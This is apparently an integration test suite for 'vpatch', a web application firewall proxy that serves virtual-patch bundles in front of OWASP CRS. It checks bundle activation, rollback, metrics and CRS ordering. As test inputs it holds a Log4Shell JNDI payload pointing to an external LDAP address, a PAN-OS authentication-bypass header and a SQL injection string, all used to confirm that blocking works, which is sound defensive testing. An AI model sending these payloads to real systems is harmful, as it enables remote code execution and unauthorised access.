/**
 * The serve side of the patch lifecycle, with real components only: the real engine, a real
 * SQLite state database in a temp dir, a real upstream on loopback, the admin API, and the
 * `vpatch` CLI as a child process. `rules.env` / --env / VPATCH_ENV selects the environment whose
 * active bundle is served; GET /status reports it (`patches`, `crs`); /metrics counts blocks and
 * detection-only hits per patch, expired patches and the active bundle; the bundle's CRS settings
 * and exclusions apply; patches run before CRS.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { TestUpstream, rawRequest, request, startProxy, type TestProxy } from './helpers.js';
import { realEngine } from '../../src/proxy/ruleset.js';
import { loadConfig, ConfigError } from '../../src/proxy/config.js';
import { builtinCatalog, parsePatch } from '../../src/patches/loader.js';
import { PatchValidationError } from '../../src/patches/errors.js';
import { buildBundle } from '../../src/patches/bundles.js';
import { expiredPatches } from '../../src/patches/inventory.js';
import { scaffoldPatch } from '../../src/patches/scaffold.js';
import { Store } from '../../src/patches/store.js';
import { CRS_DIR, REPO_ROOT } from '../helpers/shared.js';

const BIN = resolve(REPO_ROOT, 'bin/vpatch.js');
/** The engine time budget is not under test here: a loaded CI machine must not turn a verdict into 503. */
const RELAXED = { 'timeouts.engine': '30s' };
const HAVE_CRS = existsSync(join(CRS_DIR, 'rules', 'REQUEST-901-INITIALIZATION.conf'));

const children: ChildProcess[] = [];
after(() => {
  for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
});

function tmpDb(): string {
  return join(mkdtempSync(join(tmpdir(), 'vpatch-serve-state-')), 'state.db');
}

function cli(args: string[], env: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((res) => {
    execFile(process.execPath, [BIN, ...args], { env: { ...process.env, ...env }, maxBuffer: 16 * 1024 * 1024 }, (err, stdout, stderr) => {
      res({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

/** Value of one Prometheus series (labels matched as a subset), or undefined when absent. */
function metric(body: string, name: string, labels: Record<string, string> = {}): number | undefined {
  for (const line of body.split('\n')) {
    const m = /^([a-zA-Z_:][a-zA-Z0-9_:]*)(?:\{(.*)\})? (\S+)$/.exec(line);
    if (!m || m[1] !== name) continue;
    const have: Record<string, string> = {};
    for (const l of (m[2] ?? '').matchAll(/([a-zA-Z_]+)="((?:[^"\\]|\\.)*)"/g)) have[l[1]!] = l[2]!;
    if (Object.entries(labels).every(([k, v]) => have[k] === v)) return Number(m[3]);
  }
  return undefined;
}

interface PatchStatus {
  env: string;
  source: string;
  bundle: { env: string; version: number; hash: string } | null;
  enabled: number;
  modes: { block: number; detect: number };
  expired: Array<{ id: string; reason: string }>;
}
interface Status {
  patches: PatchStatus;
  crs: { enabled: boolean; paranoia: number; executingParanoia: number; inboundAnomalyThreshold: number; from: string };
  generation: number;
}

/**
 * Sends a request through the proxy and waits for its access-log line, written when the exchange
 * is finalised (metrics are counted just before), so metrics read afterwards include it.
 */
async function send(proxy: TestProxy, path: string, headers: Record<string, string>): Promise<{ status: number; line: Record<string, unknown> }> {
  const res = await request(`${proxy.url}${path}`, { headers });
  const id = String(res.headers['x-request-id']);
  for (let i = 0; i < 500; i++) {
    const line = proxy.access.lines.find((l) => l.reqId === id);
    if (line) return { status: res.status, line };
    await new Promise((r) => setTimeout(r, 10));
  }
  throw new Error(`no access-log line for ${path}`);
}

async function getJson<T>(url: string): Promise<T> {
  const r = await request(url);
  assert.equal(r.status, 200, r.body);
  return JSON.parse(r.body) as T;
}

// a host name, not the loopback address (CRS 920350 scores a numeric Host)
const UA = { host: 'app.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0', accept: 'text/html' };
const noUA = { host: 'app.example.com', accept: 'text/html' };
const log4shell = { ...UA, 'user-agent': '${jndi:ldap://203.0.113.7:1389/a}' };
/** CVE-2024-0012 (PAN-OS management authentication bypass): no CRS rule scores it. */
const panOs = { ...UA, 'x-pan-authcheck': 'off' };

/** A site patch (rule id 1790000, blocks /todo-vulnerable-endpoint) whose review date passed in 2020. */
function expiredLocalPatchDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'vpatch-local-patches-'));
  mkdirSync(dir, { recursive: true });
  const text = scaffoldPatch({ id: 'VP-2019-0001', cve: 'CVE-2019-0001', title: 'Site patch past its review date', ruleId: 1790000, today: '2019-01-01' }).replace('mode: detect ', 'mode: block  ');
  assert.match(text, /date: "2020-01-01"/);
  writeFileSync(join(dir, 'VP-2019-0001.yaml'), text);
  return dir;
}

test('rules.env: file key, --env flag and VPATCH_ENV (default production); rules.stateDb: --db and VPATCH_DB', () => {
  const base = { flags: { upstream: 'http://127.0.0.1:1' } };
  let c = loadConfig(base);
  assert.equal(c.rules.env, 'production');
  assert.equal(c.rules.stateDb, null);
  c = loadConfig({ ...base, file: '/etc/vpatch/vpatch.yaml', text: 'rules: { env: staging, stateDb: state/vpatch.db }\n' });
  assert.equal(c.rules.env, 'staging');
  assert.equal(c.rules.stateDb, '/etc/vpatch/state/vpatch.db', 'relative to the file');
  c = loadConfig({ ...base, text: 'rules: { env: staging }\n', env: { VPATCH_ENV: 'test', VPATCH_DB: '/var/lib/vpatch/vpatch.db' } });
  assert.equal(c.rules.env, 'test', 'the variable overrides the file');
  assert.equal(c.rules.stateDb, '/var/lib/vpatch/vpatch.db');
  c = loadConfig({ flags: { ...base.flags, 'rules.env': 'canary' }, env: { VPATCH_ENV: 'test' } });
  assert.equal(c.rules.env, 'canary', 'the flag overrides the variable');
  assert.throws(
    () => loadConfig({ flags: { ...base.flags, 'rules.env': 'no such env!' } }),
    (e: unknown) => e instanceof ConfigError && /--env: invalid environment name "no such env!"/.test(e.message),
  );
});

test('a raw patch rule may not change how the rules after it (CRS) evaluate the request', () => {
  const base = scaffoldPatch({ id: 'VP-2025-0001', cve: 'CVE-2025-0001', title: 'raw rule', ruleId: 1790000, today: '2025-01-01' });
  const withRule = (seclang: string): string =>
    base.replace(/rules:\n[\s\S]*?\ntests:/, `rules:\n  - id: 1790000\n    seclang: |\n      ${seclang}\ntests:`);
  const ok = parsePatch(withRule(`SecRule REQUEST_FILENAME "@endsWith /todo-vulnerable-endpoint" "id:1790000,phase:1,t:none,setvar:tx.vp_seen=1"`), 'ok.yaml');
  assert.equal(ok.rules.length, 1);
  for (const [action, why] of [
    ['ctl:ruleEngine=Off', /action ctl is not allowed in patches/],
    ['ctl:ruleRemoveById=949110', /action ctl is not allowed/],
    ['skipAfter:END-REQUEST-942', /action skipAfter is not allowed/],
    ['setvar:tx.inbound_anomaly_score_pl1=+5', /setvar:tx.inbound_anomaly_score_pl1=\+5 is not allowed in patches: CRS scores/],
    ["setvar:'tx.blocking_paranoia_level=4'", /setvar:tx.blocking_paranoia_level=4 is not allowed/],
  ] as const) {
    assert.throws(
      () => parsePatch(withRule(`SecRule REQUEST_FILENAME "@endsWith /todo-vulnerable-endpoint" "id:1790000,phase:1,t:none,${action}"`), 'bad.yaml'),
      (e: unknown) => e instanceof PatchValidationError && why.test(e.message),
      action,
    );
  }
});

test('serve with --env test: /status and /metrics follow bundle activate, rollback and failed activations; blocks and detection-only hits per patch', async (t) => {
  const db = tmpDb();
  const localDir = expiredLocalPatchDir();
  const up = await new TestUpstream().start();
  const proxy = await startProxy(
    { env: { VPATCH_ENV: 'test', VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
    { engine: realEngine },
  );
  t.after(async () => {
    await proxy.close();
    await up.stop();
  });
  const admin = `http://127.0.0.1:${proxy.server.adminAddress!.port}`;
  const env = { VPATCH_DB: db, VPATCH_ACTOR: 'ci' };
  const metrics = async (): Promise<string> => (await request(`${admin}/metrics`)).body;
  const status = (): Promise<Status> => getJson<Status>(`${admin}/status`);

  // 1. No state database yet: the built-in catalog in its default modes, nothing created.
  const builtin = builtinCatalog().filter((p) => p.mode !== 'off');
  let st = await status();
  assert.deepEqual(st.patches, {
    env: 'test',
    source: 'builtin',
    bundle: null,
    enabled: builtin.length,
    modes: { block: builtin.filter((p) => p.mode === 'block').length, detect: builtin.filter((p) => p.mode === 'detect').length },
    expired: expiredPatches(builtin),
  });
  assert.equal(existsSync(db), false, 'serve does not create the state database');
  assert.equal((await send(proxy, '/', log4shell)).status, 403);
  let m = await metrics();
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 1);
  assert.equal(metric(m, 'vpatch_bundle_info'), undefined, 'no bundle is active');
  assert.equal(metric(m, 'vpatch_patches_enabled', { mode: 'block' }), st.patches.modes.block);

  // 2. Log4Shell in detect, a retired patch, a site patch past its date: bundle v1, activated through the admin API.
  let r = await cli(['patch', 'mode', 'VP-2021-44228', 'detect', '--env', 'test'], env);
  assert.equal(r.code, 0, r.stderr);
  r = await cli(['patch', 'retire', 'VP-2017-9841', '--env', 'test', '--note', 'phpunit removed from production images'], env);
  assert.equal(r.code, 0, r.stderr);
  r = await cli(['bundle', 'build', '--env', 'test', '--patches', 'builtin', '--patches', localDir, '--note', 'log4shell in detect'], env);
  assert.match(r.stdout, /built test:v1/, r.stderr);
  const store = new Store(db);
  t.after(() => store.close());
  const v1 = store.findBundle('1', 'test')!;
  r = await cli(['bundle', 'activate', '--env', 'test', '--admin', admin], env);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, new RegExp(`activated test:v1 .*\\nreloaded .*, serving bundle ${v1.hash.slice(0, 12)}`));

  st = await status();
  assert.deepEqual(st.patches.bundle, { env: 'test', version: 1, hash: v1.hash });
  assert.equal(st.patches.source, 'bundle');
  assert.equal(st.patches.enabled, builtin.length + 1);
  assert.equal(st.patches.modes.detect, builtin.filter((p) => p.mode === 'detect').length + 1);
  const expired = new Map(st.patches.expired.map((e) => [e.id, e.reason]));
  assert.match(expired.get('VP-2017-9841') ?? '', /fixed version recorded as deployed \d{4}-\d\d-\d\d \(phpunit removed/);
  assert.match(expired.get('VP-2019-0001') ?? '', /expiry date 2020-01-01 passed/);
  m = await metrics();
  assert.equal(metric(m, 'vpatch_bundle_info', { env: 'test', version: '1', hash: v1.hash }), 1);
  assert.equal(metric(m, 'vpatch_patches_expired', { patch: 'VP-2017-9841' }), 1);
  assert.equal(metric(m, 'vpatch_patches_expired', { patch: 'VP-2019-0001' }), 1);
  assert.equal(metric(m, 'vpatch_patches_expired', { patch: 'VP-2021-44228' }), undefined);

  // Log4Shell (detect) is forwarded and counted as a detection-only hit of its patch; PAN-OS and the site patch block.
  const forwarded = up.received.length;
  const x = await send(proxy, '/', log4shell);
  assert.equal(x.status, 200);
  assert.equal(up.received.length, forwarded + 1);
  assert.deepEqual(x.line.patchesDetected, ['VP-2021-44228']);
  assert.equal(x.line.patch, undefined);
  let y = await send(proxy, '/index.php/.js.map', panOs);
  assert.equal(y.status, 403);
  assert.equal(y.line.patch, 'VP-2024-0012');
  y = await send(proxy, '/todo-vulnerable-endpoint?x=1', UA);
  assert.equal(y.status, 403);
  assert.equal(y.line.patch, 'VP-2019-0001');
  m = await metrics();
  assert.equal(metric(m, 'vpatch_patch_detection_only_hits_total', { patch: 'VP-2021-44228' }), 1);
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 1, 'unchanged');
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2024-0012' }), 1);
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2019-0001' }), 1, 'a site patch (local rule id range) is attributed too');
  assert.equal(metric(m, 'vpatch_blocks_total', { rule_id: '1790000' }), 1);

  // 3. Log4Shell back to block: v2.
  r = await cli(['patch', 'mode', 'VP-2021-44228', 'block', '--env', 'test'], env);
  assert.equal(r.code, 0, r.stderr);
  r = await cli(['bundle', 'build', '--env', 'test', '--patches', 'builtin', '--patches', localDir], env);
  assert.match(r.stdout, /built test:v2/, r.stderr);
  const v2 = store.findBundle('2', 'test')!;
  r = await cli(['bundle', 'activate', '--env', 'test', '--admin', admin], env);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.deepEqual((await status()).patches.bundle, { env: 'test', version: 2, hash: v2.hash });
  assert.equal((await send(proxy, '/', log4shell)).status, 403);
  m = await metrics();
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 2);
  assert.equal(metric(m, 'vpatch_bundle_info', { version: '2', hash: v2.hash }), 1);
  assert.equal(metric(m, 'vpatch_bundle_info', { version: '1' }), undefined, 'only the active bundle is reported');

  // 4. Rollback: v1 again, Log4Shell detected only.
  r = await cli(['bundle', 'rollback', '--env', 'test', '--admin', admin], env);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /rolled back to test:v1/);
  assert.deepEqual((await status()).patches.bundle, { env: 'test', version: 1, hash: v1.hash });
  assert.equal((await send(proxy, '/', log4shell)).status, 200);
  m = await metrics();
  assert.equal(metric(m, 'vpatch_patch_detection_only_hits_total', { patch: 'VP-2021-44228' }), 2);
  assert.equal(metric(m, 'vpatch_bundle_info', { version: '1', hash: v1.hash }), 1);

  // 5. A bundle the serve cannot load (it needs CRS; this serve has none): the reload is refused (422),
  //    the serve keeps v1, and the CLI puts the state back to v1.
  r = await cli(['bundle', 'build', '--env', 'test', '--patches', 'builtin', '--patches', localDir, '--crs', 'on'], env);
  assert.match(r.stdout, /built test:v3/, r.stderr);
  const generation = (await status()).generation;
  r = await cli(['bundle', 'activate', '--env', 'test', '--admin', admin], env);
  assert.equal(r.code, 1);
  assert.match(r.stdout, /FAILED: admin API .* refused the reload \(HTTP 422\).*no CRS directory is configured/);
  assert.match(r.stdout, /state restored to test:v1/);
  st = await status();
  assert.deepEqual(st.patches.bundle, { env: 'test', version: 1, hash: v1.hash });
  assert.equal(st.generation, generation);
  assert.equal(store.activeActivation('test')!.version, 1);

  // 6. Activating another environment's bundle against this serve: it reloads, still serves test:v1,
  //    and the CLI reports the mismatch instead of recording success.
  r = await cli(['patch', 'mode', 'VP-2024-0012', 'detect', '--env', 'other'], env);
  assert.equal(r.code, 0, r.stderr);
  r = await cli(['bundle', 'build', '--env', 'other'], env);
  assert.match(r.stdout, /built other:v1/, r.stderr);
  r = await cli(['bundle', 'activate', '--env', 'other', '--admin', admin], env);
  assert.equal(r.code, 1);
  assert.match(r.stdout, new RegExp(`FAILED: reloaded .* but it reports bundle ${v1.hash.slice(0, 12)} instead of`));
  assert.deepEqual((await status()).patches.bundle, { env: 'test', version: 1, hash: v1.hash });
  assert.equal(store.activations('other').at(-1)!.applied.startsWith('failed:'), true);
});

test('a serve without patches (--patches none) reports no bundle, and activating one against it fails', async (t) => {
  const db = tmpDb();
  const s = new Store(db);
  buildBundle(s, 'test', builtinCatalog(), 'ci');
  s.close();
  const up = await new TestUpstream().start();
  const proxy = await startProxy(
    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'none', 'rules.env': 'test', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
    { engine: realEngine },
  );
  t.after(async () => {
    await proxy.close();
    await up.stop();
  });
  const admin = `http://127.0.0.1:${proxy.server.adminAddress!.port}`;
  const st = await getJson<Status>(`${admin}/status`);
  assert.deepEqual(st.patches, { env: 'test', source: 'none', bundle: null, enabled: 0, modes: { block: 0, detect: 0 }, expired: [] });
  const r = await cli(['bundle', 'activate', '--env', 'test', '--admin', admin], { VPATCH_DB: db });
  assert.equal(r.code, 1);
  assert.match(r.stdout, /FAILED: reloaded .* but it serves no bundle \(its environment is test\)/);
  assert.equal((await send(proxy, '/', log4shell)).status, 200, 'no patches loaded');
});

test('a WebSocket upgrade a patch blocks is counted under the patch', async (t) => {
  const up = await new TestUpstream().start();
  const proxy = await startProxy(
    { env: { VPATCH_DB: tmpDb() }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
    { engine: realEngine },
  );
  t.after(async () => {
    await proxy.close();
    await up.stop();
  });
  const res = await rawRequest(
    proxy.port,
    'GET /socket HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: ${jndi:ldap://203.0.113.7/a}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
      'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  );
  assert.equal(res.status, 403);
  const m = (await request(`http://127.0.0.1:${proxy.server.adminAddress!.port}/metrics`)).body;
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 1);
});

test('with --watch, an activation recorded without --admin is picked up from the state database', async (t) => {
  const db = tmpDb();
  const up = await new TestUpstream().start();
  const proxy = await startProxy(
    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'rules.env': 'test', 'reload.watch': 'true', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
    { engine: realEngine },
  );
  t.after(async () => {
    await proxy.close();
    await up.stop();
  });
  const admin = `http://127.0.0.1:${proxy.server.adminAddress!.port}`;
  assert.equal((await getJson<Status>(`${admin}/status`)).patches.bundle, null);
  // the CLI without --admin: recorded only
  let r = await cli(['patch', 'mode', 'VP-2021-44228', 'detect', '--env', 'test'], { VPATCH_DB: db });
  assert.equal(r.code, 0, r.stderr);
  r = await cli(['bundle', 'build', '--env', 'test'], { VPATCH_DB: db });
  assert.equal(r.code, 0, r.stderr);
  r = await cli(['bundle', 'activate', '--env', 'test'], { VPATCH_DB: db });
  assert.match(r.stdout, /recorded only \(no --admin URL\): a serve with --env test/);
  // a generous bound so a regression fails instead of hanging (the serve polls every 2 s)
  let st = await getJson<Status>(`${admin}/status`);
  for (let i = 0; i < 300 && !st.patches.bundle; i++) {
    await new Promise((res) => setTimeout(res, 200));
    st = await getJson<Status>(`${admin}/status`);
  }
  assert.equal(st.patches.bundle?.version, 1, 'the serve reloaded with the activated bundle');
  assert.equal(st.patches.modes.detect, builtinCatalog().filter((p) => p.mode === 'detect').length + 1);
  assert.equal((await send(proxy, '/', log4shell)).status, 200, 'Log4Shell in detect');
});

test('with CRS: patches run first, detect-mode patches leave CRS anomaly scoring as it is, the bundle sets paranoia, thresholds and exclusions', { skip: !HAVE_CRS && 'CRS not found in ../shared/crs' }, async (t) => {
  const db = tmpDb();
  const up = await new TestUpstream().start();
  const proxy = await startProxy(
    { env: { VPATCH_DB: db }, flags: { upstream: up.url, 'rules.patches': 'builtin', 'rules.env': 'test', 'rules.crsDir': CRS_DIR, 'rules.paranoia': '1', 'admin.listen': '127.0.0.1:0', ...RELAXED } },
    { engine: realEngine },
  );
  t.after(async () => {
    await proxy.close();
    await up.stop();
  });
  const admin = `http://127.0.0.1:${proxy.server.adminAddress!.port}`;
  const status = (): Promise<Status> => getJson<Status>(`${admin}/status`);
  const store = new Store(db);
  t.after(() => store.close());
  const activate = async (crs: Parameters<Store['setEnvConfig']>[1], exclusions: Parameters<Store['setEnvConfig']>[2], modes: Record<string, 'block' | 'detect' | 'off'>): Promise<string> => {
    for (const [id, mode] of Object.entries(modes)) store.setMode('test', id, mode, 'ci');
    store.setEnvConfig('test', crs, exclusions, 'ci');
    const b = buildBundle(store, 'test', builtinCatalog(), 'ci');
    store.recordActivation('test', b.row.id, 'activate', 'ci');
    const res = await request(`${admin}/reload`, { method: 'POST' });
    assert.equal(res.status, 200, res.body);
    return b.row.hash;
  };
  const sqli = `/search?q=${encodeURIComponent("1' or 1=1-- ")}`;

  // No bundle: the config's CRS settings. A request both would block is stopped by the patch, before CRS.
  let st = await status();
  assert.deepEqual({ ...st.crs }, { enabled: true, paranoia: 1, executingParanoia: 1, inboundAnomalyThreshold: 5, outboundAnomalyThreshold: 4, from: 'config' });
  let x = await send(proxy, '/', log4shell);
  assert.equal(x.status, 403);
  assert.equal(x.line.interruptedBy, 1700100);
  assert.equal(x.line.patch, 'VP-2021-44228');
  assert.deepEqual(x.line.ruleIds, [1700100], 'no CRS rule matched: the patch stopped the request in phase 2 before CRS\'s phase-2 rules ran');
  x = await send(proxy, sqli, UA);
  assert.equal(x.status, 403);
  assert.equal(x.line.interruptedBy, 949110, 'what no patch covers is CRS\'s');
  assert.equal((await send(proxy, '/search?q=shoes', noUA)).status, 200, 'no User-Agent: only a paranoia-level-2 rule (920320) notices');

  // v1: Log4Shell and PAN-OS patches in detect; paranoia 2, inbound threshold 2.
  const v1 = await activate({ paranoia: 2, inboundAnomalyThreshold: 2 }, undefined, { 'VP-2021-44228': 'detect', 'VP-2024-0012': 'detect' });
  st = await status();
  assert.deepEqual(st.patches.bundle, { env: 'test', version: 1, hash: v1 });
  assert.deepEqual({ ...st.crs }, { enabled: true, paranoia: 2, executingParanoia: 2, inboundAnomalyThreshold: 2, outboundAnomalyThreshold: 4, from: 'bundle' });
  x = await send(proxy, '/search?q=shoes', noUA);
  assert.equal(x.status, 403, 'the bundle\'s paranoia level and threshold apply');
  assert.equal(x.line.interruptedBy, 949110);
  assert.ok((x.line.ruleIds as number[]).includes(920320));
  // a detect-mode patch logs and passes: CRS scores the request as it would without the patch, and blocks it
  x = await send(proxy, '/', log4shell);
  assert.equal(x.status, 403);
  assert.equal(x.line.interruptedBy, 949110);
  assert.deepEqual(x.line.patchesDetected, ['VP-2021-44228']);
  assert.ok((x.line.ruleIds as number[]).includes(1700100) && (x.line.ruleIds as number[]).includes(944150));
  // ... and adds nothing to the anomaly score: an exploit only the (detect-mode) patch recognises is forwarded
  x = await send(proxy, '/index.php/.js.map', panOs);
  assert.equal(x.status, 200);
  assert.deepEqual(x.line.patchesDetected, ['VP-2024-0012']);
  assert.deepEqual((x.line.ruleIds as number[]).filter((id) => id < 1_700_000), [], 'no CRS rule matched');
  let m = (await request(`${admin}/metrics`)).body;
  assert.equal(metric(m, 'vpatch_patch_detection_only_hits_total', { patch: 'VP-2021-44228' }), 1);
  assert.equal(metric(m, 'vpatch_patch_detection_only_hits_total', { patch: 'VP-2024-0012' }), 1);
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 1, 'only the block before v1');
  assert.equal(metric(m, 'vpatch_blocks_total', { rule_id: '949110' }), 3);

  // v2: back to paranoia 1, threshold 5, and CRS rule 942100 excluded by the bundle (applied after CRS is loaded).
  const v2 = await activate({ paranoia: 1, inboundAnomalyThreshold: 5 }, { ruleIds: [942100], tags: [] }, {});
  assert.deepEqual((await status()).patches.bundle, { env: 'test', version: 2, hash: v2 });
  x = await send(proxy, sqli, UA);
  assert.equal(x.status, 200, 'the only CRS rule that catches it at paranoia 1 is excluded');
  x = await send(proxy, '/search?q=shoes', noUA);
  assert.equal(x.status, 200);

  // v3: CRS off in the bundle, though the serve has a CRS directory.
  await activate({ enabled: false }, { ruleIds: [], tags: [] }, { 'VP-2021-44228': 'block' });
  st = await status();
  assert.equal(st.crs.enabled, false);
  assert.equal((await send(proxy, '/', log4shell)).status, 403);
  m = (await request(`${admin}/metrics`)).body;
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 2);
});

test('cluster (--workers 2): the primary reports the bundle the workers serve; activation is checked against it; metrics are not summed', async (t) => {
  const db = tmpDb();
  const s = new Store(db);
  const b1 = buildBundle(s, 'test', builtinCatalog(), 'ci');
  s.recordActivation('test', b1.row.id, 'activate', 'ci');
  s.setMode('test', 'VP-2021-44228', 'detect', 'ci');
  const b2 = buildBundle(s, 'test', builtinCatalog(), 'ci');
  s.close();
  const up = await new TestUpstream().start();
  t.after(() => up.stop());
  const free = async (): Promise<number> => {
    const srv = net.createServer();
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
    const port = (srv.address() as net.AddressInfo).port;
    await new Promise<void>((r) => srv.close(() => r()));
    return port;
  };
  const [port, adminPort] = [await free(), await free()];
  const child = spawn(process.execPath, [BIN, 'serve', '--upstream', up.url, '--listen', `127.0.0.1:${port}`, '--admin-listen', `127.0.0.1:${adminPort}`, '--workers', '2', '--env', 'test', '--db', db, '--timeout-engine', '30s', '--audit-log', 'off', '--log-level', 'warn'], {
    env: { ...process.env, VPATCH_ENV: '', VPATCH_DB: '' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  children.push(child);
  let stderr = '';
  let stdout = '';
  child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
  child.stdout!.on('data', (d: Buffer) => (stdout += d.toString()));
  /** Sends a request and waits for its access-log line (the worker counted it by then). */
  const sendTo = async (headers: Record<string, string>): Promise<number> => {
    const res = await request(`http://127.0.0.1:${port}/`, { headers });
    const id = String(res.headers['x-request-id']);
    for (let i = 0; !stdout.includes(id); i++) {
      if (i > 3000) throw new Error(`no access-log line for request ${id}`);
      await new Promise((r) => setTimeout(r, 10));
    }
    return res.status;
  };
  const admin = `http://127.0.0.1:${adminPort}`;
  for (let i = 0; ; i++) {
    if (child.exitCode !== null) throw new Error(`vpatch serve exited: ${stderr}`);
    const ok = await request(`${admin}/readyz`).then((r) => r.status === 200, () => false);
    if (ok) break;
    if (i > 1200) throw new Error(`vpatch serve not ready: ${stderr}`);
    await new Promise((r) => setTimeout(r, 100));
  }
  let st = await getJson<{ role: string; patches: PatchStatus }>(`${admin}/status`);
  assert.equal(st.role, 'primary');
  assert.deepEqual(st.patches.bundle, { env: 'test', version: 1, hash: b1.row.hash });
  assert.equal(await sendTo(log4shell), 403);

  const r = await cli(['bundle', 'activate', '2', '--env', 'test', '--admin', admin], { VPATCH_DB: db, VPATCH_ACTOR: 'ci' });
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, new RegExp(`serving bundle ${b2.row.hash.slice(0, 12)}`));
  st = await getJson<{ role: string; patches: PatchStatus }>(`${admin}/status`);
  assert.deepEqual(st.patches.bundle, { env: 'test', version: 2, hash: b2.row.hash });
  assert.equal(await sendTo(log4shell), 200);
  const m = (await request(`${admin}/metrics`)).body;
  assert.equal(metric(m, 'vpatch_bundle_info', { env: 'test', version: '2', hash: b2.row.hash }), 1, 'one bundle, whatever the number of workers');
  assert.equal(metric(m, 'vpatch_patch_detection_only_hits_total', { patch: 'VP-2021-44228' }), 1);
  assert.equal(metric(m, 'vpatch_patch_blocks_total', { patch: 'VP-2021-44228' }), 1);
  child.kill('SIGTERM');
  await new Promise((r) => (child.exitCode !== null ? r(null) : child.once('exit', r)));
});
